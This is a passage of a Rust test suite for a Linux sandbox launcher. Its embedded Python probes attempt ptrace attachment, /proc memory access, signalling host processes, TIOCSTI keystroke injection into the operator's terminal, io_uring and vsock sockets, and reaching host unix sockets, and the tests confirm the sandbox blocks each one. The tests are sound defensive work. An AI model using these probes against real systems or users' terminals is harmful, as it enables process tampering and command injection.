//! Root tier: `paddock-proxy run` as an attacker sees it. Each escape an adversarial review
//! found (a hostile command running as an unprivileged user) is first reproduced outside the
//! sandbox as a control, then shown closed under `run`: ptrace and /proc of a same-uid process,
//! inherited descriptors, terminal injection, non-inet socket families and `io_uring`, abstract
//! and filesystem unix sockets of the host, signals. Interactive use (a shell under a pty,
//! Ctrl-C, job control), `--publish` and DNS through the run's own sockets still work, and
//! every run leaves nothing behind: no network namespace, cgroup, pin, uid lock or process.

use std::{
    collections::BTreeSet,
    io::{BufRead, BufReader, Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream},
    os::{
        fd::AsRawFd,
        linux::net::SocketAddrExt,
        unix::{fs::PermissionsExt, net::UnixListener},
    },
    path::{Path, PathBuf},
    process::{Child, Command, Output, Stdio},
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use paddock_tests::{
    HostLink,
    names::unique,
    process::{Placement, inherit_fds, place, run, target_bin},
    proxied::DnsResponder,
    require_root,
    servers::bind_in,
    tty::Terminal,
};

const PYTHON: &str = "/usr/bin/python3";
const NOBODY: u32 = 65534;
const EPERM: i64 = libc::EPERM as i64;
const ESRCH: i64 = libc::ESRCH as i64;
const ENOENT: i64 = libc::ENOENT as i64;

const POLICY: &str = r"
apiVersion: paddock.dev/v1
kind: BrokerPolicy
metadata: {name: sandbox}
spec:
  appliesTo: {namespaces: [local]}
  egress:
    - {hosts: [allowed.paddock.test], ports: [443]}
";

/// A policy file and state directory for `paddock-proxy run`.
struct Bench {
    dir: tempfile::TempDir,
}

impl Bench {
    fn new() -> Self {
        let dir = tempfile::Builder::new()
            .prefix("pdk-sandbox-")
            .tempdir()
            .expect("tempdir");
        std::fs::write(dir.path().join("policy.yaml"), POLICY).expect("policy");
        Self { dir }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// `paddock-proxy run [extra] -- command...`, from `/`, quiet logs.
    fn run_cmd(&self, run_id: &str, extra: &[&str], command: &[&str]) -> Command {
        let mut cmd = Command::new(target_bin("paddock-proxy"));
        cmd.arg("run")
            .arg("--policy")
            .arg(self.path("policy.yaml"))
            .arg("--state-dir")
            .arg(self.path("state"))
            .args(["--run-id", run_id])
            .args(extra)
            .arg("--")
            .args(command)
            .current_dir("/")
            .env("RUST_LOG", "warn");
        cmd
    }
}

/// What a probe printed on its `PROBE {json}` line.
fn probe(stdout: &str) -> serde_json::Value {
    // Anywhere in a line: on a terminal, echoed input may precede it.
    let line = stdout
        .lines()
        .find_map(|l| l.find("PROBE {").map(|at| l[at + 6..].trim()))
        .unwrap_or_else(|| panic!("no PROBE line in:\n{stdout}"));
    serde_json::from_str(line).unwrap_or_else(|e| panic!("bad probe output {line:?}: {e}"))
}

/// The uid and network namespace the command reported (see [`py`]).
#[derive(Debug, Clone, Copy)]
struct Ident {
    uid: u32,
    netns: u64,
}

/// A Python probe as the command line, prefixed with a line naming the command's uid and
/// network namespace.
fn py(script: &str, args: &[&str]) -> Vec<String> {
    let prelude = "import os\nprint(\"IDENT\", os.getuid(), os.readlink(\"/proc/self/ns/net\"), flush=True)\n";
    let mut v = vec![
        PYTHON.to_owned(),
        "-c".to_owned(),
        format!("{prelude}{script}"),
    ];
    v.extend(args.iter().map(|a| (*a).to_owned()));
    v
}

fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

fn ident(stdout: &str) -> Ident {
    // The first line carrying an actual uid and namespace (a terminal also shows the command
    // line that printed it).
    stdout
        .lines()
        .find_map(|l| {
            let mut words = l[l.find("IDENT ")? + 6..].split_whitespace();
            let uid = words.next()?.parse().ok()?;
            let netns = words
                .next()?
                .strip_prefix("net:[")?
                .strip_suffix(']')?
                .parse()
                .ok()?;
            Some(Ident { uid, netns })
        })
        .unwrap_or_else(|| panic!("no IDENT line in:\n{stdout}"))
}

fn output(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Every uid any process on the machine holds.
fn uids_in_use() -> BTreeSet<u32> {
    let mut ids = BTreeSet::new();
    for e in std::fs::read_dir("/proc").expect("/proc").flatten() {
        if let Ok(status) = std::fs::read_to_string(e.path().join("status")) {
            for line in status.lines().filter(|l| l.starts_with("Uid:")) {
                ids.extend(
                    line[4..]
                        .split_whitespace()
                        .filter_map(|w| w.parse::<u32>().ok()),
                );
            }
        }
    }
    ids
}

/// Whether any process holds the network namespace `inode` (as its namespace or open).
fn netns_referenced(inode: u64) -> bool {
    let needle = format!("net:[{inode}]");
    std::fs::read_dir("/proc")
        .expect("/proc")
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_str()
                .is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit()))
        })
        .any(|e| {
            let p = e.path();
            std::fs::read_link(p.join("ns/net")).is_ok_and(|l| l.to_string_lossy() == needle)
                || std::fs::read_dir(p.join("fd")).is_ok_and(|fds| {
                    fds.flatten().any(|fd| {
                        std::fs::read_link(fd.path()).is_ok_and(|l| l.to_string_lossy() == needle)
                    })
                })
        })
}

/// After a run: no pins, cgroup, secrets, uid lock, process of a per-run uid, or namespace.
fn assert_nothing_left(bench: &Bench, run_id: &str, id: Ident, dynamic: bool) {
    let pins = Path::new("/sys/fs/bpf/paddock").join(run_id);
    assert!(!pins.exists(), "eBPF pins left at {}", pins.display());
    let cgroup = paddock_proxy::ebpf::mounts::cgroup2_root()
        .expect("cgroup2")
        .join("paddock")
        .join(run_id);
    assert!(!cgroup.exists(), "cgroup left at {}", cgroup.display());
    for secret in ["ca", "broker"] {
        let p = bench.path("state").join(run_id).join(secret);
        assert!(!p.exists(), "{} left", p.display());
    }
    let lock = Path::new("/run/paddock/uids").join(format!("{}.lock", id.uid));
    assert!(!lock.exists(), "uid lock left at {}", lock.display());
    if dynamic {
        assert!(
            paddock_app::run::user::DYNAMIC_UIDS.contains(&id.uid),
            "a per-run uid: {}",
            id.uid
        );
        assert!(
            !uids_in_use().contains(&id.uid),
            "a process of uid {} survived the run",
            id.uid
        );
    }
    let deadline = Instant::now() + Duration::from_secs(5);
    while netns_referenced(id.netns) {
        assert!(
            Instant::now() < deadline,
            "network namespace {} still held",
            id.netns
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Wait for a child with a deadline; kills it and panics on timeout.
fn wait(child: &mut Child, timeout: Duration) -> std::process::ExitStatus {
    let deadline = Instant::now() + timeout;
    loop {
        if let Some(st) = child.try_wait().expect("try_wait") {
            return st;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("process did not exit within {timeout:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A process of `uid` outside any sandbox, killed on drop.
struct Victim(Child);

impl Victim {
    fn start(uid: u32) -> Self {
        let mut cmd = Command::new("/bin/sleep");
        cmd.arg("120").stdin(Stdio::null()).stdout(Stdio::null());
        place(
            &mut cmd,
            &Placement {
                user: Some(uid),
                ..Placement::default()
            },
        );
        Self(cmd.spawn().expect("victim"))
    }

    fn pid(&self) -> u32 {
        self.0.id()
    }

    fn alive_untraced(&self) -> bool {
        std::fs::read_to_string(format!("/proc/{}/status", self.pid())).is_ok_and(|s| {
            s.lines().any(|l| l == "TracerPid:\t0")
                && !s.lines().any(|l| l.starts_with("State:\tZ"))
        })
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn as_nobody(args: &[&str]) -> Output {
    run(
        Command::new(PYTHON).args(args).current_dir("/"),
        &Placement {
            user: Some(NOBODY),
            ..Placement::default()
        },
    )
}

const PTRACE_PROBE: &str = r#"
import ctypes, json, os, sys
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
res = {"visible": os.path.exists(f"/proc/{pid}")}
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
r = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
res["attach"] = 0 if r == 0 else ctypes.get_errno()
if r == 0:
    os.waitpid(pid, 0x40000000)  # __WALL: the tracee stopped
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
try:
    with open(f"/proc/{pid}/mem", "rb") as f:
        res["mem"] = 0
except OSError as e:
    res["mem"] = e.errno
r = libc.syscall(310, pid, None, 0, None, 0, 0)  # process_vm_readv, zero iovecs
res["vm_readv"] = 0 if r == 0 else ctypes.get_errno()
res["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("PROBE " + json.dumps(res))
"#;

#[test]
fn ptrace_and_proc_of_a_same_uid_process_outside_are_out_of_reach() {
    if !require_root("ptrace_and_proc_of_a_same_uid_process_outside_are_out_of_reach") {
        return;
    }
    let victim = Victim::start(NOBODY);
    let pid = victim.pid().to_string();

    // Control: the same uid outside can attach, read its memory file, see it.
    let (stdout, stderr) = output(&as_nobody(&["-c", PTRACE_PROBE, &pid]));
    let control = probe(&stdout);
    assert_eq!(control["visible"], true, "{stderr}");
    assert_eq!(control["attach"], 0, "ptrace works outside: {control}");
    assert_eq!(control["mem"], 0, "{control}");
    assert!(victim.alive_untraced(), "detached again");

    // Under run, as the same uid (--user nobody): nothing of the host is there.
    let bench = Bench::new();
    let run_id = unique("ptr");
    let command = py(PTRACE_PROBE, &[&pid]);
    let out = run(
        &mut bench.run_cmd(&run_id, &["--user", "nobody"], &strs(&command)),
        &Placement::default(),
    );
    let (stdout, stderr) = output(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let sandboxed = probe(&stdout);
    assert_eq!(sandboxed["visible"], false, "{sandboxed}");
    assert_eq!(sandboxed["attach"], EPERM, "ptrace is refused: {sandboxed}");
    assert_eq!(sandboxed["vm_readv"], EPERM, "{sandboxed}");
    assert_eq!(sandboxed["mem"], ENOENT, "{sandboxed}");
    // Only the sandbox's own processes: its init (1) and the command.
    let pids: Vec<i64> = sandboxed["pids"]
        .as_array()
        .expect("pids")
        .iter()
        .filter_map(serde_json::Value::as_i64)
        .collect();
    assert_eq!(pids, vec![1, 2], "{sandboxed}");
    assert!(victim.alive_untraced());
    assert_nothing_left(&bench, &run_id, ident(&stdout), false);
}

const SIGNAL_PROBE: &str = r#"
import json, os, signal, sys
pids = [int(p) for p in sys.stdin.readline().split()]
res = {}
for pid in pids:
    try:
        os.kill(pid, signal.SIGTERM)
        res[str(pid)] = 0
    except OSError as e:
        res[str(pid)] = e.errno
print("PROBE " + json.dumps(res), flush=True)
"#;

#[test]
fn the_command_cannot_signal_run_or_any_host_process() {
    if !require_root("the_command_cannot_signal_run_or_any_host_process") {
        return;
    }
    let victim = Victim::start(NOBODY);
    // Control: the same uid outside may signal the victim (signal 0: a check that kills
    // nothing).
    let control = as_nobody(&[
        "-c",
        "import os,sys; os.kill(int(sys.argv[1]), 0); print('PROBE {\"ok\": 1}')",
        &victim.pid().to_string(),
    ]);
    assert_eq!(probe(&output(&control).0)["ok"], 1, "{control:?}");

    let bench = Bench::new();
    let run_id = unique("sig");
    let command = py(SIGNAL_PROBE, &[]);
    let mut cmd = bench.run_cmd(&run_id, &["--user", "nobody"], &strs(&command));
    cmd.stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("run");
    // The command learns run's pid, the test's and the victim's, and tries them all.
    let pids = format!("{} {} {}\n", child.id(), std::process::id(), victim.pid());
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(pids.as_bytes())
        .expect("write pids");
    let status = wait(&mut child, Duration::from_mins(1));
    let mut stdout = String::new();
    child
        .stdout
        .take()
        .expect("stdout")
        .read_to_string(&mut stdout)
        .expect("read");
    let res = probe(&stdout);
    assert!(status.success(), "{stdout}");
    for pid in [child.id(), std::process::id(), victim.pid()] {
        assert_eq!(res[pid.to_string()], ESRCH, "{pid} is not visible: {res}");
    }
    // (No kill(-1) in the probe: were the sandbox ever broken, it would kill every process of
    // the user on the machine, other tests' included.)
    assert!(victim.alive_untraced(), "the victim survived the SIGTERM");
    assert_nothing_left(&bench, &run_id, ident(&stdout), false);
}

// Lists every descriptor, but writes only to the ones the test leaked on purpose (others the
// test process itself may hold, such as cargo's jobserver pipe, must not be disturbed).
const FD_PROBE: &str = r#"
import json, os, sys
tag = sys.argv[1].encode()
fds = sorted(int(x) for x in os.listdir("/proc/self/fd"))
wrote = []
for fd in (int(x) for x in sys.argv[2:]):
    try:
        os.write(fd, b"LEAK-" + tag + b"\n")
        wrote.append(fd)
    except OSError:
        pass
print("PROBE " + json.dumps({"fds": fds, "wrote": wrote}), flush=True)
"#;

#[test]
fn descriptors_open_in_the_launcher_do_not_reach_the_command() {
    if !require_root("descriptors_open_in_the_launcher_do_not_reach_the_command") {
        return;
    }
    // A host in a test namespace the policy denies; the launcher holds a connection to it.
    let link = HostLink::new();
    let addr = SocketAddr::from((link.host_ip, 7711));
    let listener = bind_in(&link.upstream, addr);
    let received = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&received);
    let server = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().expect("accept");
        let mut data = Vec::new();
        let _ = conn.read_to_end(&mut data);
        sink.lock().expect("lock").extend(data);
    });
    let conn = TcpStream::connect_timeout(&addr, Duration::from_secs(5)).expect("connect");
    let bench = Bench::new();
    let note = bench.path("launcher-file");
    std::fs::write(&note, "").expect("file");
    let file = std::fs::OpenOptions::new()
        .append(true)
        .open(&note)
        .expect("open");
    let leaked = [(conn.as_raw_fd(), 50), (file.as_raw_fd(), 51)];

    // Control: another child of the same launcher, as nobody, finds and uses both.
    let mut control = Command::new(PYTHON);
    control
        .args(["-c", FD_PROBE, "CONTROL", "50", "51"])
        .current_dir("/");
    inherit_fds(&mut control, &leaked);
    let out = run(
        &mut control,
        &Placement {
            user: Some(NOBODY),
            ..Placement::default()
        },
    );
    let res = probe(&output(&out).0);
    assert_eq!(res["wrote"], serde_json::json!([50, 51]), "{res}");
    let fds = res["fds"].as_array().expect("fds");
    assert!(
        fds.contains(&50.into()) && fds.contains(&51.into()),
        "{res}"
    );

    // Under run: only 0-2 (and the directory listing itself) remain; nothing is written.
    let run_id = unique("fds");
    let command = py(FD_PROBE, &["SANDBOX", "50", "51"]);
    let mut cmd = bench.run_cmd(&run_id, &["--user", "nobody"], &strs(&command));
    inherit_fds(&mut cmd, &leaked);
    let out = run(&mut cmd, &Placement::default());
    let (stdout, stderr) = output(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let res = probe(&stdout);
    let fds: Vec<i64> = res["fds"]
        .as_array()
        .expect("fds")
        .iter()
        .filter_map(serde_json::Value::as_i64)
        .collect();
    assert_eq!(&fds[..3], &[0, 1, 2], "{res}");
    assert!(
        fds.len() <= 4,
        "only the listing's own descriptor besides 0-2: {res}"
    );
    assert_eq!(res["wrote"], serde_json::json!([]), "{res}");

    drop(conn);
    server.join().expect("server");
    let got = String::from_utf8_lossy(&received.lock().expect("lock")).into_owned();
    assert!(got.contains("LEAK-CONTROL"), "the control wrote: {got:?}");
    assert!(!got.contains("LEAK-SANDBOX"), "the sandbox wrote: {got:?}");
    let written = std::fs::read_to_string(&note).expect("read");
    assert_eq!(
        written, "LEAK-CONTROL\n",
        "only the control wrote to the file"
    );
    assert_nothing_left(&bench, &run_id, ident(&stdout), false);
}

const TTY_PROBE: &str = r#"
import fcntl, json, os, termios
res = {}
for name, fd in (("stdin", 0), ("stdout", 1)):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        res[name] = 0
    except OSError as e:
        res[name] = e.errno
try:
    fcntl.ioctl(1, 0x541C, bytearray(b"\x0b"))  # TIOCLINUX
    res["linux"] = 0
except OSError as e:
    res["linux"] = e.errno
res["rdev0"] = os.fstat(0).st_rdev
res["id0"] = [os.fstat(0).st_dev, os.fstat(0).st_rdev]
res["id1"] = [os.fstat(1).st_dev, os.fstat(1).st_rdev]
print("PROBE " + json.dumps(res), flush=True)
"#;

#[test]
fn terminal_injection_into_the_operators_terminal_is_closed() {
    if !require_root("terminal_injection_into_the_operators_terminal_is_closed") {
        return;
    }
    // Control: a process whose controlling terminal is the operator's injects keystrokes the
    // operator's shell would read next.
    let term = Terminal::new(24, 80);
    let mut control = Command::new(PYTHON);
    control.args(["-c", TTY_PROBE]).current_dir("/");
    let mut child = term.spawn(&mut control, Some(NOBODY));
    assert!(wait(&mut child, Duration::from_secs(20)).success());
    term.wait_for(0, "PROBE", Duration::from_secs(5));
    let res = probe(&term.output());
    assert_eq!(
        (res["stdin"].as_i64(), res["stdout"].as_i64()),
        (Some(0), Some(0)),
        "{res}"
    );
    assert_eq!(
        term.pending_input(),
        b"xx",
        "injected into the operator's input"
    );
    assert_eq!(
        res["id0"],
        serde_json::json!(term.slave_id()),
        "the probe identifies the terminal it holds: {res}"
    );
    let linux_outside = res["linux"].as_i64().expect("errno");
    assert_ne!(
        linux_outside, EPERM,
        "TIOCLINUX on a pty is not a console: {res}"
    );

    // Under run, interactively: the command gets its own pty; TIOCSTI and TIOCLINUX are
    // refused and the operator's terminal receives nothing.
    let bench = Bench::new();
    let run_id = unique("tty");
    let term = Terminal::new(24, 80);
    let command = py(TTY_PROBE, &[]);
    let mut child = term.spawn(&mut bench.run_cmd(&run_id, &[], &strs(&command)), None);
    let status = wait(&mut child, Duration::from_mins(1));
    term.wait_for(0, "finished", Duration::from_secs(5));
    let out = term.output();
    assert!(status.success(), "{out}");
    let res = probe(&out);
    assert_eq!(
        (res["stdin"].as_i64(), res["stdout"].as_i64()),
        (Some(EPERM), Some(EPERM)),
        "{res}"
    );
    assert_eq!(res["linux"], EPERM, "{res}");
    assert_ne!(
        res["id0"],
        serde_json::json!(term.slave_id()),
        "its own terminal: {res}"
    );
    assert!(term.pending_input().is_empty(), "nothing injected");
    assert_nothing_left(&bench, &run_id, ident(&out), true);

    // With only stdout and stderr on the operator's terminal (`run ... < /dev/null`), those
    // get the command's pty as well: it never holds a descriptor of the operator's terminal
    // (which it could otherwise read typeahead from, or reconfigure).
    let run_id = unique("tty");
    let term = Terminal::new(24, 80);
    let mut cmd = bench.run_cmd(&run_id, &[], &strs(&command));
    let mut child = term.spawn_with(&mut cmd, None, false);
    let status = wait(&mut child, Duration::from_mins(1));
    term.wait_for(0, "finished", Duration::from_secs(5));
    let out = term.output();
    assert!(status.success(), "{out}");
    let res = probe(&out);
    assert_ne!(res["id1"], serde_json::json!(term.slave_id()), "{res}");
    let null = std::fs::metadata("/dev/null").expect("/dev/null");
    assert_eq!(
        res["rdev0"].as_u64(),
        Some(std::os::unix::fs::MetadataExt::rdev(&null)),
        "stdin stays /dev/null: {res}"
    );
    assert_eq!(res["stdout"], EPERM, "{res}");
    assert!(term.pending_input().is_empty(), "nothing injected");
    assert_nothing_left(&bench, &run_id, ident(&out), true);
}

const FAMILY_PROBE: &str = r#"
import ctypes, json, os, socket
libc = ctypes.CDLL(None, use_errno=True)
res = {}
for name, fam, ty in (("unix", 1, 1), ("inet", 2, 1), ("inet6", 10, 1), ("netlink", 16, 2),
                      ("vsock", 40, 1), ("packet", 17, 3)):
    try:
        socket.socket(fam, ty, 0).close()
        res[name] = 0
    except OSError as e:
        res[name] = e.errno
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)  # io_uring_setup: its socket op would bypass seccomp
res["io_uring"] = 0 if fd >= 0 else ctypes.get_errno()
r = libc.unshare(0x10000000)  # CLONE_NEWUSER
res["userns"] = 0 if r == 0 else ctypes.get_errno()
print("PROBE " + json.dumps(res), flush=True)
"#;

#[test]
fn vsock_packet_io_uring_and_new_user_namespaces_are_refused() {
    if !require_root("vsock_packet_io_uring_and_new_user_namespaces_are_refused") {
        return;
    }
    // Control: what an unprivileged user gets outside on this kernel.
    let (stdout, stderr) = output(&as_nobody(&["-c", FAMILY_PROBE]));
    let control = probe(&stdout);
    assert_eq!(
        control["vsock"], 0,
        "AF_VSOCK works outside here: {control} {stderr}"
    );
    assert_eq!(
        control["io_uring"], 0,
        "io_uring works outside here: {control}"
    );
    assert_eq!(
        control["userns"], 0,
        "unprivileged user namespaces work outside here: {control}"
    );
    assert_eq!(
        control["packet"], EPERM,
        "packet sockets need CAP_NET_RAW outside too: {control}"
    );
    for fam in ["unix", "inet", "inet6", "netlink"] {
        assert_eq!(control[fam], 0, "{control}");
    }

    let bench = Bench::new();
    let run_id = unique("fam");
    let out = run(
        &mut bench.run_cmd(&run_id, &[], &strs(&py(FAMILY_PROBE, &[]))),
        &Placement::default(),
    );
    let (stdout, stderr) = output(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let res = probe(&stdout);
    for refused in ["vsock", "packet", "io_uring", "userns"] {
        assert_eq!(res[refused], EPERM, "{refused}: {res}");
    }
    for allowed in ["unix", "inet", "inet6", "netlink"] {
        assert_eq!(res[allowed], 0, "{allowed}: {res}");
    }
    assert_nothing_left(&bench, &run_id, ident(&stdout), true);
}

const UNIX_PROBE: &str = r#"
import json, socket, sys
res = {}
for name, addr in (("abstract", "\0" + sys.argv[1]), ("tmp", sys.argv[2]), ("run", sys.argv[3])):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(addr)
        s.sendall(b"hello from " + sys.argv[5].encode())
        res[name] = 0
    except OSError as e:
        res[name] = e.errno
    s.close()
try:
    res["note"] = open(sys.argv[4]).read()
except OSError as e:
    res["note"] = e.errno
print("PROBE " + json.dumps(res), flush=True)
"#;

/// A unix listener recording what each connection sends, until dropped.
struct UnixSink {
    got: Arc<Mutex<Vec<String>>>,
}

impl UnixSink {
    fn start(listener: UnixListener) -> Self {
        let got = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&got);
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut conn) = conn else { return };
                let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
                let mut s = String::new();
                let _ = conn.read_to_string(&mut s);
                sink.lock().expect("lock").push(s);
            }
        });
        Self { got }
    }

    fn received(&self) -> Vec<String> {
        self.got.lock().expect("lock").clone()
    }
}

#[test]
fn host_unix_sockets_and_the_hosts_tmp_and_run_are_out_of_reach() {
    if !require_root("host_unix_sockets_and_the_hosts_tmp_and_run_are_out_of_reach") {
        return;
    }
    let name = unique("abs");
    let abstract_addr =
        std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract name");
    let sinks = [UnixSink::start(
        UnixListener::bind_addr(&abstract_addr).expect("abstract listener"),
    )];
    // World-accessible sockets and a note in the host's /tmp and /run, like X11's, tmux's,
    // ssh-agent's or D-Bus's.
    let tmp = tempfile::Builder::new()
        .prefix("pdk-sock-")
        .tempdir_in("/tmp")
        .expect("tmp dir");
    std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let tmp_sock = tmp.path().join("sock");
    let run_sock = PathBuf::from(format!("/run/{}.sock", unique("rs")));
    let note = tmp.path().join("note");
    std::fs::write(&note, "host tmp").expect("note");
    std::fs::set_permissions(&note, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let fs_sinks = [
        UnixSink::start(UnixListener::bind(&tmp_sock).expect("tmp listener")),
        UnixSink::start(UnixListener::bind(&run_sock).expect("run listener")),
    ];
    for p in [&tmp_sock, &run_sock] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).expect("chmod");
    }
    let args = |tag: &'static str| {
        vec![
            name.clone(),
            tmp_sock.display().to_string(),
            run_sock.display().to_string(),
            note.display().to_string(),
            tag.to_owned(),
        ]
    };

    // Control: as nobody outside, every one is reachable and the note readable.
    let control_args = args("control");
    let mut control = vec!["-c", UNIX_PROBE];
    control.extend(strs(&control_args));
    let (stdout, _) = output(&as_nobody(&control));
    let res = probe(&stdout);
    for k in ["abstract", "tmp", "run"] {
        assert_eq!(res[k], 0, "{k}: {res}");
    }
    assert_eq!(res["note"], "host tmp");

    let bench = Bench::new();
    let run_id = unique("unx");
    let sandbox_args = args("sandbox");
    let out = run(
        &mut bench.run_cmd(&run_id, &[], &strs(&py(UNIX_PROBE, &strs(&sandbox_args)))),
        &Placement::default(),
    );
    let (stdout, stderr) = output(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let res = probe(&stdout);
    assert_eq!(
        res["abstract"],
        i64::from(libc::ECONNREFUSED),
        "another network namespace: {res}"
    );
    assert_eq!(res["tmp"], ENOENT, "a private /tmp: {res}");
    assert_eq!(res["run"], ENOENT, "a private /run: {res}");
    assert_eq!(res["note"], ENOENT, "{res}");
    std::thread::sleep(Duration::from_millis(200));
    for sink in sinks.iter().chain(&fs_sinks) {
        assert_eq!(sink.received(), vec!["hello from control".to_owned()]);
    }
    let _ = std::fs::remove_file(&run_sock);
    assert_nothing_left(&bench, &run_id, ident(&stdout), true);
}

#[test]
fn an_interactive_shell_works_under_a_pty_with_ctrl_c_and_job_control() {
    if !require_root("an_interactive_shell_works_under_a_pty_with_ctrl_c_and_job_control") {
        return;
    }
    let bench = Bench::new();
    let run_id = unique("sh");
    let term = Terminal::new(40, 132);
    let before = term.mode();
    let mut cmd = bench.run_cmd(&run_id, &[], &["bash", "--norc", "--noprofile", "-i"]);
    cmd.env("PS1", "PDK$ ");
    let mut child = term.spawn(&mut cmd, None);
    let t = Duration::from_secs(20);
    let mut at = term.wait_for(0, "PDK$ ", t);
    // Type a line; wait for `expect`, then the next prompt.
    let say = |at: &mut usize, line: &str, expect: &str| {
        term.type_bytes(line.as_bytes());
        *at = term.wait_for(*at, expect, t);
        *at = term.wait_for(*at, "PDK$ ", t);
    };
    say(
        &mut at,
        "echo IDENT $(id -u) $(readlink /proc/self/ns/net)\n",
        "IDENT ",
    );
    say(&mut at, "echo rea''dy\n", "ready");
    say(&mut at, "stty size\n", "40 132");
    say(&mut at, "tty\n", "/dev/pts/0");
    // The window size follows the operator's terminal.
    term.resize(50, 100);
    std::thread::sleep(Duration::from_millis(300));
    say(&mut at, "stty size\n", "50 100");

    // Ctrl-C interrupts the foreground command and the prompt comes back.
    term.type_bytes(b"sleep 100\n");
    at = term.wait_for(at, "sleep 100", t);
    std::thread::sleep(Duration::from_millis(300));
    let interrupted = Instant::now();
    term.type_bytes(b"\x03");
    at = term.wait_for(at, "PDK$ ", Duration::from_secs(5));
    assert!(interrupted.elapsed() < Duration::from_secs(5));
    say(&mut at, "echo status=$?\n", "status=130");

    // Job control: background, jobs, Ctrl-Z, fg.
    say(&mut at, "sleep 100 &\n", "[1]");
    say(&mut at, "jobs\n", "Running");
    term.type_bytes(b"sleep 101\n");
    at = term.wait_for(at, "sleep 101", t);
    std::thread::sleep(Duration::from_millis(300));
    term.type_bytes(b"\x1a");
    at = term.wait_for(at, "Stopped", t);
    at = term.wait_for(at, "PDK$ ", t);
    say(&mut at, "jobs\n", "sleep 101");
    term.type_bytes(b"fg %2\n");
    at = term.wait_for(at, "sleep 101", t);
    std::thread::sleep(Duration::from_millis(300));
    term.type_bytes(b"\x03");
    at = term.wait_for(at, "PDK$ ", t);
    say(&mut at, "kill %1; wait; echo killed\n", "killed");
    let _ = at;

    term.type_bytes(b"exit 7\n");
    let status = wait(&mut child, t);
    assert_eq!(status.code(), Some(7), "{}", term.output());
    let after = term.mode();
    assert_eq!(
        (
            after.input_flags,
            after.output_flags,
            after.local_flags,
            after.control_flags
        ),
        (
            before.input_flags,
            before.output_flags,
            before.local_flags,
            before.control_flags
        ),
        "the operator's terminal mode is restored"
    );
    assert_eq!(after.control_chars, before.control_chars);
    assert_nothing_left(&bench, &run_id, ident(&term.output()), true);
}

/// A port free on the host's loopback right now.
fn free_port() -> u16 {
    TcpListener::bind((Ipv4Addr::LOCALHOST, 0))
        .and_then(|l| l.local_addr())
        .expect("port")
        .port()
}

const SERVER: &str = r#"
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[1])))
s.listen(4)
print("LISTENING", flush=True)
if sys.argv[2] == "serve":
    c, _ = s.accept()
    c.sendall(b"hello from inside")
    c.close()
else:
    sys.stdin.readline()
"#;

fn read_line_until(reader: &mut impl BufRead, needle: &str) -> String {
    let mut all = String::new();
    loop {
        let mut line = String::new();
        let n = reader.read_line(&mut line).expect("read");
        all.push_str(&line);
        if n == 0 || line.contains(needle) {
            return all;
        }
    }
}

#[test]
fn published_ports_reach_a_server_inside_and_unpublished_ones_do_not() {
    if !require_root("published_ports_reach_a_server_inside_and_unpublished_ones_do_not") {
        return;
    }
    let bench = Bench::new();
    let (inner, host) = (free_port(), free_port());

    // Without --publish: the server listens inside, and nothing on the host reaches it.
    let run_id = unique("npub");
    let inner_s = inner.to_string();
    let command = py(SERVER, &[&inner_s, "wait"]);
    let mut cmd = bench.run_cmd(&run_id, &[], &strs(&command));
    cmd.stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = cmd.spawn().expect("run");
    let mut stdout = BufReader::new(child.stdout.take().expect("stdout"));
    let seen = read_line_until(&mut stdout, "LISTENING");
    assert!(seen.contains("LISTENING"), "{seen}");
    for port in [inner, host] {
        let e = TcpStream::connect_timeout(
            &SocketAddr::from((Ipv4Addr::LOCALHOST, port)),
            Duration::from_secs(2),
        )
        .expect_err("unpublished");
        assert_eq!(
            e.kind(),
            std::io::ErrorKind::ConnectionRefused,
            "{port}: {e}"
        );
    }
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(b"done\n")
        .expect("write");
    assert!(wait(&mut child, Duration::from_secs(30)).success());
    let mut rest = String::new();
    stdout.read_to_string(&mut rest).expect("read");
    assert_nothing_left(&bench, &run_id, ident(&seen), true);

    // With --publish HOST:PORT the host side reaches it.
    let run_id = unique("pub");
